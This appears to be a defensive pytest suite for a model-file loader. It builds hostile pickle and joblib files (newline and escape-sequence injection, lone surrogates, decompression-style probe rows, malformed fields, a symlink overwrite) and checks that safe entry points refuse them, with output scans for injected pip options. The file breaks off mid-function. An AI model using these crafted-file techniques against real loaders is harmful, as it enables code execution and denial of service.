    metric = f"x\n  signed      yes (hmac-sha256)\n{INJECTED}"
    evaluation = {"best_score": 0.9, "scoring": [metric], "refit": metric}
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=lambda e: e.update(evaluation=evaluation)),
    )
    atk.entries = (*ENTRIES, "cli-process inspect")
    atk.check = signed_line_check


@attack("probe-output-name-newline", 7, "a probe output named with a newline")
def _(corpus: Corpus, atk: Attack) -> None:
    def trailer(t: dict[str, Any]) -> None:
        outputs = t["probe"]["outputs"]
        outputs[f"x\nprobe replay: ok\n{INJECTED}"] = outputs["predict"]

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, trailer=trailer),
    )
    atk.raises = {"load": {"EnvelopeError"}}
    atk.codes = {"cli verify": {2}}


def unicode_line(data: bytes, placeholder: str, escaped: bytes) -> bytes:
    """``data`` (a protocol 2 pickle) with the text ``placeholder`` written
    as a protocol 0 UNICODE line, whose escapes can spell anything."""
    old = b"X" + struct.pack("<I", len(placeholder)) + placeholder.encode()
    assert data.count(old) == 1
    return data.replace(old, b"V" + escaped + b"\n")


for _part in ("block", "output"):

    @attack(f"trailer-lone-surrogate-{_part}", 7, f"a lone surrogate in a {_part}")
    def _(corpus: Corpus, atk: Attack, part: str = _part) -> None:
        # Round 18: text no UTF-8 holds, so every digest of it raised
        # UnicodeEncodeError out of load() and verify.
        def trailer(t: dict[str, Any]) -> None:
            if part == "block":
                t["checksums"]["stream"]["blocks"] = ["PLACEHOLDER"]
            else:
                item = {"kind": "ndarray", "dtype": "object", "shape": [1]}
                t["probe"]["outputs"]["predict"] = {**item, "items": ["PLACEHOLDER"]}

        data = pickle.dumps(assemble(corpus.small, trailer=trailer), protocol=2)
        atk.path = corpus.folder(atk.name) / "model.pkl"
        atk.path.write_bytes(unicode_line(data, "PLACEHOLDER", b"\\ud800"))
        atk.raises = {"load": {"EnvelopeError"}}
        atk.codes = {"cli verify": {2}}


@attack("probe-rows-past-writer-size", 5, "200,000 probe rows gzip hides in 3 KB")
def _(corpus: Corpus, atk: Attack) -> None:
    # Round 18: every replay runs the model on the file's rows; a writer
    # keeps at most MAX_INPUT_BYTES of them.
    width = corpus.small.envelope["schema"]["n_features_in"]
    rows = np.ones((200_000, width), dtype=np.uint8)
    probe = {"n_rows": len(rows), "X": encode_input(rows)}
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(
            corpus.small, envelope=lambda e: e.update(python="3.11.0", probe=probe)
        ),
    )
    atk.raises = {"load": {"EnvelopeError"}}
    atk.codes = {"cli verify": {2}}


@attack("audit-error-newline", 7, "pickle's own error quoting a name with newlines")
def _(corpus: Corpus, atk: Attack) -> None:
    state = EMPTY_DICT + text(f"x\n  allowed    a.B\n{INJECTED}") + integer(1) + SETITEM
    stream = PROTO5 + b")" + NONE + state + TUPLE2 + BUILD + STOP
    inner_attack(corpus, atk, stream, control=None, violation=True)


@attack("format1-payload-fields-newline", 7, "format 1 payload fields with newlines")
def _(corpus: Corpus, atk: Attack) -> None:
    head = format1(corpus.small, stream=corpus.small.stream)
    head["payload"]["algorithm"] = f"sha256\n{INJECTED}"
    head["payload"]["protocol"] = f"5\n{INJECTED}"
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        Reduced((corpus.small.rebuild, (head, corpus.small.stream, []))),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


WRONG_FIELDS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "format-missing": lambda e: e.pop("format"),
    "format_version-text": lambda e: e.update(format_version="2"),
    "format_version-bool": lambda e: e.update(format_version=True),
    "format_version-huge": lambda e: e.update(format_version=10**30),
    "estimator_class-int": lambda e: e.update(estimator_class=5),
    "estimator_class-newline": lambda e: e.update(estimator_class=f"a.B\n{INJECTED}"),
    "payload-list": lambda e: e.update(payload=[]),
    "payload-buffers-text": lambda e: e["payload"].update(buffers="x"),
    "payload-stream-negative": lambda e: e["payload"].update(stream={"nbytes": -1}),
    "payload-checksum-md5": lambda e: e["payload"].update(checksum="md5"),
    "packages-list": lambda e: e.update(packages=["numpy"]),
    "packages-version-int": lambda e: e["packages"].update(numpy=2),
    "requirements-text": lambda e: e.update(requirements="numpy"),
    "modules-int": lambda e: e["modules"].update(numpy=5),
    "python-int": lambda e: e.update(python=311),
    "python-newline": lambda e: e.update(python=f"3.11.7\n{INJECTED}"),
    "created_at-dict": lambda e: e.update(created_at={}),
    "writer-escape": lambda e: e.update(writer="0.1\x1b[2J"),
    "git-commit-int": lambda e: e.update(git={"commit": 5, "dirty": False}),
    "git-list": lambda e: e.update(git=[]),
    "platform-text": lambda e: e.update(platform="linux"),
    "metadata-list": lambda e: e.update(metadata=[]),
    "params-text": lambda e: e.update(params="x"),
    "methods-text": lambda e: e.update(methods="predict"),
    "methods-not-identifiers": lambda e: e.update(methods=["pre dict"]),
    "globals-dict": lambda e: e.update(globals={}),
    "globals-list-items": lambda e: e.update(globals=[["a.B"]]),
    "methods-list-items": lambda e: e.update(methods=[["predict"]]),
    "packages-version-dict": lambda e: e["packages"].update(numpy={}),
    "schema-feature-names-int": lambda e: e["schema"].update(feature_names_in=5),
    "schema-n-features-text": lambda e: e["schema"].update(n_features_in="4"),
    "probe-without-rows": lambda e: e.update(probe={"n_rows": 1}),
    "probe-list": lambda e: e.update(probe=[]),
    "probe-n_rows-newline": lambda e: e["probe"].update(n_rows=f"5\n{INJECTED}"),
    "tags-list": lambda e: e.update(tags=[]),
    "evaluation-text": lambda e: e.update(evaluation="x"),
    "probe_size-text": lambda e: e.update(probe_size="5"),
}

for _name, _edit in WRONG_FIELDS.items():

    @attack(f"wrong-type-{_name}", 7, f"envelope field: {_name}")
    def _(corpus: Corpus, atk: Attack, edit: Any = _edit) -> None:
        field_attack(corpus, atk, edit)


def _rows(kind: str, **array: Any) -> dict[str, Any]:
    return {"n_rows": 1, "X": {"kind": kind, "array": {"kind": "ndarray", **array}}}


MALFORMED_PROBES: dict[str, tuple[dict[str, Any] | None, dict[str, Any] | None]] = {
    "rows-base64-invalid": (
        _rows("array", dtype="<f8", shape=[1, 4], base64="!!!!"),
        None,
    ),
    "rows-base64-short": (
        _rows("array", dtype="<f8", shape=[1, 4], base64="AAAA"),
        None,
    ),
    "rows-dtype-object-bytes": (
        _rows("array", dtype="object", shape=[1], base64="AAAA"),
        None,
    ),
    "rows-dtype-datetime": (
        _rows("array", dtype="<M8[ns]", shape=[1], base64="AAAAAAAAAAA="),
        None,
    ),
    "rows-shape-negative": (
        _rows("array", dtype="<f8", shape=[-1, 4], base64=""),
        None,
    ),
    "rows-shape-huge": (
        _rows("array", dtype="<f8", shape=[10**6, 10**6], base64=""),
        None,
    ),
    "rows-shape-text": (_rows("array", dtype="<f8", shape="x", base64=""), None),
    "rows-items-not-list": (_rows("list", dtype="object", shape=[1], items="x"), None),
    "rows-items-bad-bytes": (
        _rows("list", dtype="object", shape=[1], items=[{"bytes": "!"}]),
        None,
    ),
    "rows-items-nested": (
        _rows("list", dtype="object", shape=[1], items=[[1, [2]]]),
        None,
    ),
    "rows-kind-unknown": ({"n_rows": 1, "X": {"kind": "pickle"}}, None),
    "rows-frame-bad-dtype": (
        {
            "n_rows": 1,
            "X": {
                "kind": "dataframe",
                "columns": ["a"],
                "dtypes": ["category<"],
                "data": [{}],
            },
        },
        None,
    ),
    "rows-frame-uneven": (
        {
            "n_rows": 1,
            "X": {
                "kind": "dataframe",
                "columns": ["a", "b"],
                "dtypes": ["float64", "float64"],
                "data": [
                    {
                        "kind": "ndarray",
                        "dtype": "<f8",
                        "shape": [1],
                        "base64": "AAAAAAAAAAA=",
                    },
                    {"kind": "ndarray", "dtype": "<f8", "shape": [0], "base64": ""},
                ],
            },
        },
        None,
    ),
    "rows-csr-out-of-range": (
        {
            "n_rows": 1,
            "X": {
                "kind": "csr",
                "shape": [1, 4],
                "data": {
                    "kind": "ndarray",
                    "dtype": "<f8",
                    "shape": [1],
                    "base64": "AAAAAAAA8D8=",
                },
                "indices": {
                    "kind": "ndarray",
                    "dtype": "<i4",
                    "shape": [1],
                    "base64": "////fw==",
                },
                "indptr": {
                    "kind": "ndarray",
                    "dtype": "<i4",
                    "shape": [2],
                    "base64": "AAAAAAEAAAA=",
                },
            },
        },
        None,
    ),
    "outputs-text": (None, {"predict": "x"}),
    "outputs-base64-invalid": (
        None,
        {"predict": {"kind": "ndarray", "dtype": "<i8", "shape": [5], "base64": "!!"}},
    ),
    "outputs-first-columns-text": (
        None,
        {"predict_proba": {**ZERO_OUTPUT, "first_columns": "x"}},
    ),
    "outputs-unknown-method": (None, {"__reduce__": ZERO_OUTPUT}),
    "outputs-shape-huge": (
        None,
        {
            "predict": {
                "kind": "ndarray",
                "dtype": "<f8",
                "shape": [10**9],
                "base64": "",
            }
        },
    ),
    "outputs-list": (None, {"predict": [1, 2]}),
}

for _name, (_rows_edit, _outputs_edit) in MALFORMED_PROBES.items():

    @attack(f"malformed-probe-{_name}", 7, f"probe field: {_name}")
    def _(
        corpus: Corpus,
        atk: Attack,
        rows: Any = _rows_edit,
        outputs: Any = _outputs_edit,
    ) -> None:
        def envelope(e: dict[str, Any]) -> None:
            e["python"] = "3.11.0"  # so that the probe is replayed by default
            if rows is not None:
                e["probe"] = copy.deepcopy(rows)

        def trailer(t: dict[str, Any]) -> None:
            if outputs is not None:
                t["probe"] = {"outputs": copy.deepcopy(outputs)}

        atk.path = write(
            corpus.folder(atk.name) / "model.joblib",
            assemble(corpus.small, envelope=envelope, trailer=trailer),
        )
        atk.entries = ("read_envelope", "load", "cli inspect", "cli verify")
        atk.extra = [
            ("load (replay always)", "load", {"replay": "always", "on_drift": "error"})
        ]


def must_load(label: str, outcome: Outcome) -> list[str]:
    if label.startswith("load") and outcome.status == "done" and outcome.error:
        return [
            f"{label} of an intact file failed: {outcome.error['type']}: "
            f"{outcome.error['message'][:200]}"
        ]
    return []


@attack("baseline-small-model", 0, "an intact small model (must load)")
def _(corpus: Corpus, atk: Attack) -> None:
    atk.path = corpus.benign
    atk.check = must_load
    atk.codes = {e: {0} for e in ENTRIES if e.startswith("cli")}


# ----------------------------------------------------------------------------
# Running the corpus
# ----------------------------------------------------------------------------


def jobs_of(corpus: Corpus, atk: Attack) -> list[Job]:
    path = str(atk.path)
    jobs = []
    for entry in atk.entries:
        if entry in ("read_envelope", "html"):
            jobs.append(Job(atk, entry, entry, path))
        elif entry == "audit":
            jobs.append(Job(atk, entry, "audit", path))
        elif entry == "load":
            jobs.append(Job(atk, entry, "load", path, args=dict(atk.load_args)))
        else:
            runner, command = entry.split(" ", 1)
            argv = [*command.split(" "), path]
            if command == "diff":
                argv = ["diff", path, str(corpus.benign)]
            elif command == "verify --key-env":
                argv = ["verify", path, "--key-env", KEY_VARIABLE]
            jobs.append(Job(atk, entry, runner, path, argv=argv))
    for label, kind, args in atk.extra:
        if kind == "exec":
            jobs.append(Job(atk, label, "exec", path, code=args["code"]))
        elif kind == "cli":
            jobs.append(Job(atk, label, "cli", path, argv=args["argv"]))
        else:
            jobs.append(Job(atk, label, kind, path, args=args))
    for job in jobs:
        job.timeout = atk.hang
    return jobs


def build_corpus(root: Path) -> Corpus:
    X, y = load_iris(return_X_y=True)
    small_model = ve.VersionedEstimator(LogisticRegression(max_iter=500)).fit(X, y)
    benign = root / "benign.joblib"
    ve.save(small_model, benign)
    corpus = Corpus(root, benign, parts_of(small_model), small_model, (X, y))
    for name in BUILDERS:
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.bind(("127.0.0.1", 0))
        listener.listen(128)
        listener.setblocking(False)
        corpus.port[name] = listener.getsockname()[1]
        group, summary = SPEC[name]
        atk = Attack(name, group, summary, listener=listener)
        corpus.attacks[name] = atk
    for name, builder in BUILDERS.items():
        atk = corpus.attacks[name]
        atk.watch.insert(0, corpus.folder(name))
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # convergence and the like
                builder(corpus, atk)
        except Exception as exc:  # reported by the attack's test
            atk.built = f"{type(exc).__name__}: {exc}"
    return corpus


def balanced(items: list[list[Job]], n: int) -> list[list[Job]]:
    groups: list[list[Job]] = [[] for _ in range(n)]
    for i, jobs in enumerate(items):
        groups[i % n].extend(jobs)
    return groups


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
    root = tmp_path_factory.mktemp("hostile")
    started = time.monotonic()
    corpus = build_corpus(root)
    built = time.monotonic()
    packages = str(root / "packages")
    logs = root / "logs"
    logs.mkdir()
    attacks = [a for a in corpus.attacks.values() if not a.built]
    common = {
        "sys_path": [packages],
        "extensions": [["posix", "system", EXT_CODE], ["os", "system", EXT_CACHED]],
        "memory": MEMORY_LIMIT,
        "cwd": str(root),
        "cli_timeout": HANG,
    }
    # The safe entry points, all attacks, in two workers.
    safe = {**common, "name": "safe", "preload": ["versioned_estimator._io"]}
    run_jobs(balanced([jobs_of(corpus, a) for a in attacks], 2), safe, logs)
    safe_done = time.monotonic()
    # The controls, in two other workers (markers of the safe runs are gone).
    controls = []
    for atk in attacks:
        if atk.control is not None:
            timeout = atk.control.timeout
            controls.append(
                [
                    Job(
                        atk,
                        "control",
                        "exec",
                        str(atk.path),
                        code=atk.control.code,
                        timeout=timeout,
                    )
                ]
            )
    for atk in attacks:
        atk.controls, atk.outcomes = atk.outcomes, []
    control_setup = {
        **common,
        "name": "control",
        "preload": ["versioned_estimator._io", "joblib"],
    }
    run_jobs(balanced(controls, 2), control_setup, logs)
    for atk in attacks:
        atk.controls, atk.outcomes = atk.outcomes, atk.controls
    corpus.timings = {  # type: ignore[attr-defined]
        "build": built - started,
        "safe": safe_done - built,
        "controls": time.monotonic() - safe_done,
    }
    yield corpus
    for atk in corpus.attacks.values():
        atk.listener.close()


# ----------------------------------------------------------------------------
# Judging
# ----------------------------------------------------------------------------

_CONTROL_CHARACTERS = {chr(c) for c in range(32) if chr(c) not in "\n"} | {"\x7f"}


def problems_of(atk: Attack, outcome: Outcome, size: int) -> list[str]:
    """Everything wrong with one safe run, as one line each."""
    label = outcome.job.label
    found: list[str] = []
    if outcome.status == "hang":
        found.append(f"hang: {outcome.detail}")
    elif outcome.status == "crash":
        found.append(f"crash: {outcome.detail}")
    elif outcome.status == "not run":
        found.append(f"not run: {outcome.detail}")
    if outcome.created:
        found.append(f"created or changed {outcome.created}")
    if outcome.connections:
        found.append(f"{outcome.connections} connection(s) to 127.0.0.1")
    answer = outcome.answer
    if answer.get("imported"):
        found.append(f"imported {answer['imported']}")
    error = outcome.error
    allowed = atk.raises.get(label)
    if error is not None and not error["ours"] and label != "control":
        found.append(
            f"raised {error['module']}.{error['type']}: {error['message'][:300]}"
        )
    if outcome.status == "done" and allowed:
        if error is None:
            found.append(f"did not raise (expected {sorted(allowed)})")
        elif error["type"] not in allowed:
            found.append(
                f"raised {error['type']} (expected {sorted(allowed)}): "
                f"{error['message'][:200]}"
            )
    limit = atk.max_seconds
    if limit is not None and answer.get("elapsed", 0) > limit:
        found.append(f"took {answer['elapsed']:.1f} s (limit {limit:.0f} s)")
    peak_limit = atk.max_peak or (512 * MIB + 64 * size)
    if answer.get("peak", 0) > peak_limit:
        found.append(
            f"resident memory grew by {answer['peak'] / MIB:.0f} MiB for a file of "
            f"{size} bytes"
        )
    value = outcome.value
    if label.startswith("cli") and outcome.status == "done" and isinstance(value, dict):
        found += cli_problems(atk, label, value)
    if atk.check is not None and outcome.status == "done":
        found += atk.check(label, outcome)
    return [f"{label}: {p}" for p in found]


def cli_problems(atk: Attack, label: str, value: dict[str, Any]) -> list[str]:
    found = []
    code, stdout, stderr = value["code"], value["stdout"], value["stderr"]
    if value.get("uncaught"):
        error = value["uncaught"]
        found.append(f"uncaught {error['type']}: {error['message'][:200]}")
    if code not in (0, 1, 2):
        found.append(f"exit status {code}")
    expected = atk.codes.get(label.replace("cli-process", "cli"))
    if expected and code not in expected:
        found.append(
            f"exit status {code} (expected {sorted(expected)}); "
            f"stderr: {stderr[:200]!r}"
        )
    if "Traceback" in stderr:
        found.append(f"traceback on stderr: {stderr[-300:]!r}")
    if code == 2:
        lines = stderr.splitlines()
        if len(lines) != 1 or not lines[0].startswith("versioned-estimator: error:"):
            found.append(f"exit 2 with stderr {stderr[:300]!r}")
    for name, output in (("stdout", stdout), ("stderr", stderr)):
        raw_controls = sorted({repr(ch) for ch in output if ch in _CONTROL_CHARACTERS})
        if raw_controls:
            found.append(f"raw control characters {raw_controls} on {name}")
        injected = [
            line for line in output.splitlines() if line.lstrip().startswith(INJECTED)
        ]
        if injected:
            found.append(f"a line injected by the file on {name}: {injected[0]!r}")
    if "--index-url" in stdout or "-e git+" in stdout or "--extra-index-url" in stdout:
        found.append("pip options from the file on stdout")
    return found


def control_problems(atk: Attack) -> list[str]:
    if not atk.controls:
        return ["the control did not run"]
    outcome = atk.controls[0]
    expect = atk.control.expect  # type: ignore[union-attr]
    error = outcome.error
    seen = (
        f"status {outcome.status} {outcome.detail}; created {outcome.created}; "
        f"{outcome.connections} connection(s); error "
        f"{(error or {}).get('type')}: {(error or {}).get('message', '')[:200]}"
    )
    ok = {
        "marker": bool(outcome.created),
        "connect": outcome.connections > 0,
        "crash": outcome.status == "crash",
        "hang": outcome.status == "hang",
        "memory": (error or {}).get("type") == "MemoryError"
        or outcome.status == "crash",
        "hang or memory": outcome.status in ("hang", "crash")
        or (error or {}).get("type") == "MemoryError",
        "check": outcome.status == "done" and outcome.value == {"value": True},
    }[expect]
    return [] if ok else [f"the control did not show {expect!r}: {seen}"]


def file_size(atk: Attack) -> int:
    try:
        return atk.path.stat().st_size if atk.path and atk.path.is_file() else 0
    except OSError:
        return 0


def report(atk: Attack) -> list[str]:
    size = file_size(atk)
    found = []
    for outcome in atk.outcomes:
        found += problems_of(atk, outcome, size)
    return found


# ----------------------------------------------------------------------------
# Tests
# ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(BUILDERS))
def test_attack_holds(corpus: Corpus, name: str) -> None:
    """The attack fails against every safe entry point (see the module docstring)."""
    atk = corpus.attacks[name]
    assert not atk.built, f"{name} could not be built: {atk.built}"
    assert atk.outcomes, f"{name} was not run"
    found = report(atk)
    assert not found, f"{name} ({atk.summary}) GOT THROUGH:\n  " + "\n  ".join(found)


def test_every_control_shows_its_attack_works(corpus: Corpus) -> None:
    """Each attack with a control creates its marker, connects, crashes, hangs
    or blows up memory through plain pickle or joblib: the exploits are real."""
    with_control = [a for a in corpus.attacks.values() if a.control and not a.built]
    assert len(with_control) >= 30
    for group in (1, 2, 3, 4, 5):
        assert any(a.group == group for a in with_control), group
    found = [
        f"{atk.name}: {problem}"
        for atk in with_control
        for problem in control_problems(atk)
    ]
    assert not found, "\n".join(found)


@pytest.mark.parametrize(
    ("code", "data", "expected"),
    [
        ("f8", struct.pack("<d", 1.5), 1.5),
        ("i8", struct.pack("<q", -3), -3),
        ("u1", b"\x07", 7),
        ("b1", b"\x01", True),
        ("U3", "ab".encode("utf-32-le") + bytes(4), "ab"),
    ],
)
def test_an_older_writers_numpy_scalars_read_as_python_values(
    corpus: Corpus, tmp_path: Path, code: str, data: bytes, expected: Any
) -> None:
    """The scaffold of the ``envelope-numpy-scalar-*`` attacks, with a scalar
    earlier releases' files hold: read as the Python value, of its type."""
    path = tmp_path / "model.pkl"
    path.write_bytes(
        splice(
            dumps_fast(
                assemble(
                    corpus.small,
                    envelope=lambda e: e["metadata"].update(owner=Hole(1)),
                )
            ),
            {1: envelope_scalar(code, data)},
        )
    )
    owner = ve.read_envelope(path).metadata["owner"]
    assert owner == expected
    assert type(owner) is type(expected)
    X, _ = corpus.iris
    np.testing.assert_array_equal(
        ve.load(path).predict(X[:5]), corpus.small_model.predict(X[:5])
    )


@pytest.mark.parametrize("protocol", [5, 0])
def test_a_long_head_is_read_in_linear_time(corpus: Corpus, protocol: int) -> None:
    """A 3.9 MB head costs about four times a 1 MB one (not sixteen)."""

    def elapsed(name: str) -> float:
        atk = corpus.attacks[name]
        runs = [o for o in atk.outcomes if o.job.label == "read_envelope"]
        assert runs, f"{name} did not run"
        assert runs[0].status == "done", runs[0].detail
        error = runs[0].error
        assert error is None, f"{name} was refused: {error['message'][:200]}"
        return float(runs[0].answer["elapsed"])

    full = elapsed(f"long-head-protocol-{protocol}")
    quarter = elapsed(f"long-head-protocol-{protocol}-quarter")
    print(f"protocol {protocol}: 3.9 MB head {full:.2f} s, a quarter {quarter:.2f} s")
    assert full <= 8 * quarter + 5, (full, quarter)


def test_metadata_a_writer_shares_twice_is_read(corpus: Corpus, tmp_path: Path) -> None:
    """One list under two metadata keys is written once and referred to
    twice: honest sharing, read and loaded (four references are refused)."""
    rows = list(range(50_000))
    X, y = corpus.iris
    model = ve.VersionedEstimator(
        LogisticRegression(max_iter=500), metadata={"a": rows, "b": rows}
    ).fit(X, y)
    path = ve.save(model, tmp_path / "shared.joblib")
    assert ve.read_envelope(path).metadata == {"a": rows, "b": rows}
    assert ve.load(path).predict(X[:3]).shape == (3,)


def test_metadata_repeating_a_long_text_is_read(corpus: Corpus, tmp_path: Path) -> None:
    """A column's labels, one object repeated (as data from a table holds
    them), are honest metadata: each written as its own, read and loaded
    (the memo wrote one, referred to 20,000 times, which a reader refuses
    as a crafted repetition)."""
    label = "a label of more than sixteen characters"
    X, y = corpus.iris
    model = ve.VersionedEstimator(
        LogisticRegression(max_iter=500), metadata={"labels": [label] * 20_000}
    ).fit(X, y)
    path = ve.save(model, tmp_path / "labels.joblib")
    assert ve.read_envelope(path).metadata == {"labels": [label] * 20_000}
    assert ve.load(path).predict(X[:3]).shape == (3,)


def test_members_sharing_long_column_names_are_read(tmp_path: Path) -> None:
    """Every member of a meta-estimator fitted on a frame keeps the frame's
    column names, one object each: 160 members over 1,000 names of 157
    characters (18 million characters through their holders, from 157,000
    written) are honest, and load; one array of names held twice counts as
    any text does."""
    import pandas as pd
    from sklearn.dummy import DummyClassifier
    from sklearn.multioutput import MultiOutputClassifier

    rng = np.random.default_rng(0)
    columns = [f"{i:04d}_" + "a_long_column_name_" * 8 for i in range(1_000)]
    X = pd.DataFrame(rng.normal(size=(20, 1_000)), columns=columns)
    Y = rng.integers(0, 2, size=(20, 160))
    model = ve.VersionedEstimator(MultiOutputClassifier(DummyClassifier())).fit(X, Y)
    loaded = ve.load(ve.save(model, tmp_path / "members.joblib"))
    assert (loaded.predict(X[:2]) == model.predict(X[:2])).all()


@pytest.mark.parametrize(
    ("n_columns", "n_members", "probe_size"), [(1_000, 4, 0), (400, 10, 5)]
)
def test_members_selecting_one_list_of_columns_are_read(
    tmp_path: Path, n_columns: int, n_members: int, probe_size: int
) -> None:
    """Members that each select a frame's columns with one list (how such
    code is written) name those texts in every member's parameters, and the
    frame names them in the schema: one object each, they made the envelope
    of 4 pipelines over 1,000 columns of 33 characters (or 10 over 400 and
    the probe's rows) read as crafted by load, read_envelope and inspect
    (round 167). Each field's long texts are
    written as their own, and it loads."""
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import VotingClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    columns = [f"sensor_{i:04d}_reading_calibrated_mV" for i in range(n_columns)]
    X = pd.DataFrame(rng.normal(size=(60, n_columns)), columns=columns)
    y = (X.iloc[:, 0] > 0).astype(int).to_numpy()
    members = [
        (
            f"lr{i}",
            make_pipeline(
                ColumnTransformer([("num", StandardScaler(), columns)]),
                LogisticRegression(C=10.0**-i),
            ),
        )
        for i in range(n_members)
    ]
    model = ve.VersionedEstimator(
        VotingClassifier(members, voting="soft"), probe_size=probe_size
    ).fit(X, y)
    path = ve.save(model, tmp_path / "voting.joblib")
    assert ve.read_envelope(path).params["lr0__columntransformer__num"] is not None
    loaded = ve.load(path)
    assert (loaded.predict(X[:3]) == model.predict(X[:3])).all()


def test_a_search_over_long_parameter_names_is_read(tmp_path: Path) -> None:
    """A search's results name each candidate's parameters, one key object
    a name: 64 candidates of 13 names of 85 characters made an envelope
    read as crafted (a long key shared by many dicts). Each written as its
    own, it loads."""
    from sklearn.dummy import DummyClassifier
    from sklearn.model_selection import GridSearchCV
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    X, y = np.random.default_rng(0).normal(size=(40, 4)), np.arange(40) % 2
    name = "a_step_of_a_long_name_"
    steps = Pipeline([(f"{name}{i}", FunctionTransformer()) for i in range(4)])
    outer = Pipeline([(name + "outer", Pipeline([(name + "inner", steps)]))])
    pipe = Pipeline([*outer.steps, ("classifier", DummyClassifier())])
    prefix = f"{name}outer__{name}inner__{name}"
    grid: dict[str, list[Any]] = {
        f"{prefix}{i}__{option}": [True]
        for i in range(4)
        for option in ("validate", "check_inverse", "accept_sparse")
    }
    for i in range(3):
        grid[f"{prefix}{i}__validate"] = [True, False]
    grid["classifier__strategy"] = ["prior", "most_frequent"]
    grid[f"{prefix}3__validate"] = [True, False]
    grid[f"{prefix}3__check_inverse"] = [True, False]
    assert len(grid) == 13
    assert max(map(len, grid)) > 64
    search = ve.VersionedEstimator(GridSearchCV(pipe, grid, cv=2)).fit(X, y)
    assert len(search.estimator_.cv_results_["params"]) == 64
    loaded = ve.load(ve.save(search, tmp_path / "search.joblib"))
    assert (loaded.predict(X[:3]) == search.predict(X[:3])).all()


def test_an_envelope_past_what_a_reader_reads_is_not_written(
    corpus: Corpus, tmp_path: Path
) -> None:
    """Metadata that would make the head longer than every reader reads
    (16 MiB) is an error at save, and nothing is written: the file could not
    be read back."""
    X, y = corpus.iris
    records = [f"{i:08d}" + "r" * 248 for i in range(70_000)]
    model = ve.VersionedEstimator(
        LogisticRegression(max_iter=500), metadata={"records": records}
    ).fit(X, y)
    path = tmp_path / "big.joblib"
    with pytest.raises(ve.EnvelopeError, match="more than the 16,777,216"):
        ve.save(model, path)
    assert not path.exists()
    model.metadata = {"records": records[:50_000]}
    assert ve.load(ve.save(model, path)).metadata == {"records": records[:50_000]}


def test_metadata_records_sharing_their_keys_are_read(
    corpus: Corpus, tmp_path: Path
) -> None:
    """Records that share their keys (the memo writes each key once) are
    honest: read, loaded and printed, a key of 40 characters included."""
    records = [
        {"feature": f"x{i}", "permutation_importance_mean": i / 7}
        for i in range(20_000)
    ]
    X, y = corpus.iris
    model = ve.VersionedEstimator(
        LogisticRegression(max_iter=500), metadata={"importances": records}
    ).fit(X, y)
    path = ve.save(model, tmp_path / "records.joblib")
    assert ve.read_envelope(path).metadata == {"importances": records}
    assert ve.load(path).predict(X[:3]).shape == (3,)
    envelope = ve.read_envelope(path)
    assert printed_repeats(envelope) is None
    for argv in (["inspect", str(path)], ["inspect", "--json", str(path)]):
        assert cli_main(argv) == 0


def test_columns_sharing_short_labels_are_read(tmp_path: Path) -> None:
    """Columns that share their labels' objects (one str per label, as a
    reader of text data may make them) are honest: 1,000 features of the
    same 1,000 labels of 24 characters (24 million characters reached, past
    the free allowance, from 24,000 written) load and name their million
    outputs; the same labels of 1,024 characters are refused (above)."""
    labels = [f"a-label-of-24-chars-{i:04d}" for i in range(1_000)]
    X = np.empty((1_000, 1_000), dtype=object)
    for j in range(X.shape[1]):
        X[:, j] = labels[j % 7 :] + labels[: j % 7]
    model = ve.VersionedEstimator(OneHotEncoder(handle_unknown="ignore")).fit(X)
    path = ve.save(model, tmp_path / "encoder.joblib")
    loaded = ve.load(path)
    assert loaded.get_feature_names_out().shape == (1_000_000,)
    assert loaded.transform(X[:2]).sum() == 2 * 1_000


class _ObjectArrayOfOneList:
    """Pickles as an object array whose items are ``items`` (memoized: one
    list under every such array)."""

    def __init__(self, items: list[Any]) -> None:
        self.items = items

    def __reduce__(self) -> Any:
        state = (1, (len(self.items),), np.dtype("O"), False, self.items)
        from numpy._core.multiarray import _reconstruct

        return (_reconstruct, (np.ndarray, (0,), b"b"), state)


def test_object_arrays_sharing_one_list_are_refused(
    corpus: Corpus, tmp_path: Path
) -> None:
    """numpy copies an object array's list into it: 200 arrays of one
    memoized list of a million items took a load to 1.7 GB from 1 MB (round
    105). Each array's items are its own."""
    X, y = corpus.iris
    model = ve.VersionedEstimator(LogisticRegression(max_iter=500)).fit(X, y)
    shared = [None] * 100_000
    model.estimator_.extra_ = [_ObjectArrayOfOneList(shared) for _ in range(50)]
    path = tmp_path / "model.joblib"
    joblib.dump(model, path)
    with pytest.raises(ve.UntrustedGlobalError, match="items another restore copies"):
        ve.load(path)


def test_save_replaces_a_symlink_not_its_target(corpus: Corpus, tmp_path: Path) -> None:
    """``save`` over a symlink (or over a planted stale temp name) replaces
    the link, never writes through it."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    link = tmp_path / "model.joblib"
    link.symlink_to(victim)
    dead = 4_000_000
    while True:
        try:
            os.kill(dead, 0)
        except ProcessLookupError:
            break
        except OSError:
            pass
        dead += 1
    stale = tmp_path / f".model.joblib.{dead}.abc.tmp"
    stale.symlink_to(victim)
    ve.save(corpus.small_model, link)
    assert victim.read_text() == "precious"
    assert not link.is_symlink()
    assert not stale.exists()
    assert ve.read_envelope(link).estimator_class.endswith("LogisticRegression")


def test_timings(corpus: Corpus) -> None:
    """How long building and running the corpus took (shown with -rA)."""
    timings = corpus.timings  # type: ignore[attr-defined]
    jobs = sum(len(a.outcomes) for a in corpus.attacks.values())
    print(
        f"{len(corpus.attacks)} attacks, {jobs} safe runs; "
        + ", ".join(f"{k} {v:.0f} s" for k, v in timings.items())
    )
    slowest = sorted(
        corpus.attacks.values(), key=lambda a: -sum(o.wall for o in a.outcomes)
    )
    for atk in slowest[:12]:
